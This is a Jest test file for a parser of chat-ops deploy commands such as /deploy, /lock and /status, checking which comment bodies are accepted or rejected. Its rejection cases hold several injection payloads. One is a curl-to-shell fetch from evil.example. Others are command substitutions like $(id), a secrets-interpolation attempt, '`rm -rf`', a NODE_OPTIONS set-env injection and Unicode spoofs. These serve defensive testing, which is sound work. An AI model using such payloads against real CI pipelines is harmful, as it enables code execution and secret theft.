import { describe, expect, it } from '@jest/globals';
import { cleanReason, firstLine, parseCommand } from '../../../src/deploy-command/grammar.ts';

describe('parseCommand', () => {
  it.each([
    ['/deploy staging', { verb: 'deploy', environment: 'staging', dryRun: false, force: false }],
    [
      '  /deploy staging --dry-run  ',
      { verb: 'deploy', environment: 'staging', dryRun: true, force: false },
    ],
    [
      '/deploy\tstaging --force --dry-run',
      { verb: 'deploy', environment: 'staging', dryRun: true, force: true },
    ],
    ['/rollback staging', { verb: 'rollback', environment: 'staging', force: false }],
    ['/promote', { verb: 'promote' }],
    [
      '/lock staging load test until 5pm',
      { verb: 'lock', environment: 'staging', reason: 'load test until 5pm' },
    ],
    ['/lock staging', { verb: 'lock', environment: 'staging', reason: '' }],
    ['/unlock staging', { verb: 'unlock', environment: 'staging' }],
    ['/status', { verb: 'status', environment: undefined }],
    ['/status qa-2', { verb: 'status', environment: 'qa-2' }],
    ['/help', { verb: 'help' }],
    [
      '/deploy staging\n::set-env name=NODE_OPTIONS::--require /tmp/x',
      { verb: 'deploy', environment: 'staging', dryRun: false, force: false },
    ],
    [
      '/deploy staging\r\nsecond line',
      { verb: 'deploy', environment: 'staging', dryRun: false, force: false },
    ],
  ])('%j is a command', (body, command) => {
    expect(parseCommand(body, '/')).toEqual({ kind: 'command', command });
  });

  it.each([
    ['LGTM, /deploy staging later'],
    ['deploy staging'],
    ['/deploys staging'],
    ['/Deploy staging'],
    ['\uff0fdeploy staging'], // fullwidth solidus
    ['\u2215deploy staging'], // division slash
    ['/d\u0435ploy staging'], // Cyrillic e
    ['/de\u200bploy staging'], // zero-width space
    ['/deploy\u00a0staging'], // no-break space joins the words
    ['\u202e/deploy staging'], // right-to-left override before the slash
    ['.deploy staging'],
    ['second line first\n/deploy staging'],
    [''],
  ])('%j is not a command', (body) => {
    expect(parseCommand(body, '/')).toEqual({ kind: 'not-a-command' });
  });

  it.each([
    ['/deploy', 'name the environment'],
    ['/deploy staging; curl https://evil.example/x | sh', 'that is not an environment name'],
    ['/deploy `id`', 'that is not an environment name'],
    ['/deploy ${{ secrets.AWS_KEY }}', 'that is not an environment name'],
    ['/deploy $(id)', 'that is not an environment name'],
    ['/deploy staging --yes', 'after the environment only --dry-run and --force may follow'],
    [
      '/deploy staging --dry-run --dry-run',
      'after the environment only --dry-run and --force may follow',
    ],
    ['/deploy staging && id', 'after the environment only --dry-run and --force may follow'],
    ['/rollback staging --dry-run', 'after the environment only --force may follow'],
    ['/promote production', 'it takes no arguments'],
    ['/unlock', 'name the environment'],
    ['/status a b', 'it takes one environment'],
    ['/deploy st\u0430ging', 'that is not an environment name'], // Cyrillic a in the name
    ['/lock staging `rm -rf`', 'the reason has characters a lock reason may not have'],
    ['/lock staging a\u202eb', 'the reason has characters a lock reason may not have'],
  ])('%j is a malformed command', (body, problem) => {
    expect(parseCommand(body, '/')).toMatchObject({ kind: 'invalid', problem });
  });

  it('takes another prefix, and then the slash is nothing', () => {
    expect(parseCommand('.deploy staging', '.')).toMatchObject({ kind: 'command' });
    expect(parseCommand('/deploy staging', '.')).toEqual({ kind: 'not-a-command' });
    expect(parseCommand('!!deploy staging', '!!')).toMatchObject({ kind: 'command' });
  });

  it('refuses a prefix that is not punctuation', () => {
    expect(() => parseCommand('x', 'go ')).toThrow(TypeError);
    expect(() => parseCommand('x', '')).toThrow(TypeError);
  });

  it('reads the first line only, whatever breaks it', () => {
    expect(firstLine('a\u2028b')).toBe('a');
    expect(firstLine('a\rb')).toBe('a');
    expect(firstLine('a\u0085b')).toBe('a');
  });

  it('cuts a long reason to 200 characters', () => {
    expect([...cleanReason('é'.repeat(500))!]).toHaveLength(200);
    expect(cleanReason('  ok  ')).toBe('ok');
  });
});
